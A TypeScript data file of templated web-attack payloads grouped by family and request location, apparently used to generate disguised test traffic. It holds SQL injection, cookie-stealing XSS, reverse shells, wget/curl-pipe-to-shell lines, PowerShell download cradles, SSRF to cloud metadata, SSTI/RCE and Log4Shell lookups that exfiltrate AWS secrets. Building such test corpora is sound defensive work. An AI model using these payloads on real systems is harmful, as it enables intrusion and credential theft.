/** Where a payload may stand in a request. */
export type Place =
  | 'query'
  | 'form'
  | 'json'
  | 'header'
  | 'path'
  | 'cookie'
  | 'user-agent'
  | 'name';

export interface AttackFamily {
  readonly name: string;
  readonly places: readonly Place[];
  /** `{n}` a number, `{w}` a word, `{t}` a table, `{h}` a host, `{f}` a file, `{c}` a command, `{d}` a dollar. */
  readonly templates: readonly string[];
}

const VALUES: readonly Place[] = ['query', 'query', 'query', 'form', 'form', 'json', 'cookie'];

/** Own payloads, one idea each; `mutate.ts` disguises them. */
export const ATTACK_FAMILIES: readonly AttackFamily[] = [
  {
    name: 'sqli',
    places: VALUES,
    templates: [
      "' OR {n}={n} -- ",
      "{w}' or '{w}'='{w}",
      '{n} UNION SELECT null,{w},password FROM {t}--',
      "{w}' UNION ALL SELECT table_name,{n} FROM information_schema.tables#",
      '{n}; DROP TABLE {t};--',
      "'; EXEC xp_cmdshell('{c}');--",
      '{n} AND SLEEP({n})',
      "{w}' AND (SELECT {n} FROM (SELECT(SLEEP(5)))a)-- -",
      "{n}' AND extractvalue({n},concat(0x7e,(select version())))-- ",
      "{w}'; WAITFOR DELAY '0:0:5'--",
      '{n} AND ascii(substring((SELECT password FROM {t} LIMIT 1),1,1))>{n}',
      '{n} ORDER BY {n}-- -',
      "{w}' AND benchmark(5000000,md5({n}))#",
      "{n}) OR EXISTS(SELECT * FROM {t} WHERE name LIKE '%{w}%')--",
      "' INTO OUTFILE '/var/www/html/{w}.php'-- ",
      '{n}; SELECT pg_sleep({n})--',
    ],
  },
  {
    name: 'xss',
    places: VALUES,
    templates: [
      '<script>alert({n})</script>',
      '"><script src=//{h}/x.js></script>',
      '<img src=x onerror=alert(document.cookie)>',
      "'-alert({n})-'",
      '<svg/onload=fetch(`//{h}/?{d}{document.cookie}`)>',
      '<a href="javascript:alert({n})">{w}</a>',
      '<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>',
      '<body onpageshow=prompt({n})>',
      '"><details open ontoggle=confirm({n})>',
      '<math><mi xlink:href="data:text/html;base64,PHNjcmlwdD4=">{w}',
      '<input autofocus onfocus="eval(atob(\'YWxlcnQoMSk=\'))">',
      '{w}" onmouseover="document.location=\'http://{h}/\'" x="',
    ],
  },
  {
    name: 'lfi',
    places: ['query', 'query', 'form', 'path', 'path', 'cookie', 'json'],
    templates: [
      '../../../../{f}',
      '....//....//....//{f}',
      '..\\..\\..\\windows\\win.ini',
      '/proc/self/environ',
      'file:///{f}',
      '../../../{f}\0.png',
      '/var/log/../../{f}',
      '..%c0%af..%c0%af..%c0%af{f}',
    ],
  },
  {
    name: 'rce-unix',
    places: VALUES,
    templates: [
      '; cat /{f}',
      '| {c}',
      '`{c}`',
      '$({c})',
      '{w}; wget http://{h}/{w}.sh -O- | sh',
      '&& curl -s http://{h}/{w} | bash',
      "{w}'; /bin/bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1 #",
      '() { :;}; /bin/{c}',
      '|| nc -e /bin/sh {h} {n}',
      ';{c}{d}{IFS}-la',
    ],
  },
  {
    name: 'rce-windows',
    places: VALUES,
    templates: [
      '& cmd.exe /c dir C:\\',
      '| powershell -NoP -EncodedCommand JABjAGwAaQBlAG4AdAA=',
      '{w} & certutil -urlcache -split -f http://{h}/{w}.exe',
      '& net user {w} /add',
      'powershell IEX(New-Object Net.WebClient).DownloadString("http://{h}/a.ps1")',
    ],
  },
  {
    name: 'ssrf',
    places: ['query', 'query', 'form', 'json'],
    templates: [
      'http://169.254.169.254/latest/meta-data/iam/',
      'http://localhost:{n}/admin',
      'gopher://127.0.0.1:6379/_FLUSHALL',
      'http://[::1]:{n}/server-status',
      'http://2130706433/{w}',
      'http://metadata.google.internal/computeMetadata/v1/',
      'dict://127.0.0.1:11211/stats',
    ],
  },
  {
    name: 'php',
    places: VALUES,
    templates: [
      '<?php system($_GET["{w}"]); ?>',
      'php://filter/convert.base64-encode/resource=index.php',
      'O:8:"{w}":1:{s:4:"file";s:11:"/{f}";}',
      '{d}{@print(md5({n}))}',
      'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==',
      '<?= `{c}` ?>',
      'assert(base64_decode($_POST[{w}]))',
    ],
  },
  {
    name: 'ssti',
    places: VALUES,
    templates: [
      '{{{n}*{n}}}',
      "{{config.__class__.__init__.__globals__['os'].popen('{c}').read()}}",
      '{d}{T(java.lang.Runtime).getRuntime().exec("{c}")}',
      '<%= system("{c}") %>',
      '#{7*{n}}',
      '{{"".__class__.__mro__[1].__subclasses__()}}',
    ],
  },
  {
    name: 'node',
    places: ['query', 'json', 'form'],
    templates: [
      "require('child_process').execSync('{c}')",
      'process.mainModule.require("fs").readFileSync("/{f}")',
      'constructor.constructor("return process")().exit()',
      '_$$ND_FUNC$$_function(){require("child_process").exec("{c}")}()',
    ],
  },
  {
    name: 'log4shell',
    places: ['header', 'header', 'user-agent', 'query', 'form', 'json'],
    templates: [
      '{d}{jndi:ldap://{h}/{w}}',
      '{d}{{d}{lower:j}ndi:{d}{lower:l}dap://{h}/a}',
      '{d}{{d}{::-j}{d}{::-n}{d}{::-d}{d}{::-i}:rmi://{h}:{n}/{w}}',
      '{d}{jndi:dns://{d}{env:AWS_SECRET_ACCESS_KEY}.{h}}',
    ],
  },
  {
    name: 'nosql',
    places: ['name', 'name', 'query'],
    templates: ['{w}[$ne]', '{w}[$gt]', '{w}[$regex]'],
  },
  {
    name: 'scanner',
    places: ['user-agent'],
    templates: [
      'sqlmap/1.7.{n}#stable (https://sqlmap.org)',
      'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{n})',
      'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
      'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
      'Fuzz Faster U Fool v2.1.0-dev',
      'gobuster/3.6',
    ],
  },
  {
    name: 'secret-file',
    places: ['path'],
    templates: [
      '.env',
      '.git/config',
      'wp-config.php.bak',
      'backup/{w}.sql',
      '.aws/credentials',
      '.htpasswd',
    ],
  },
];
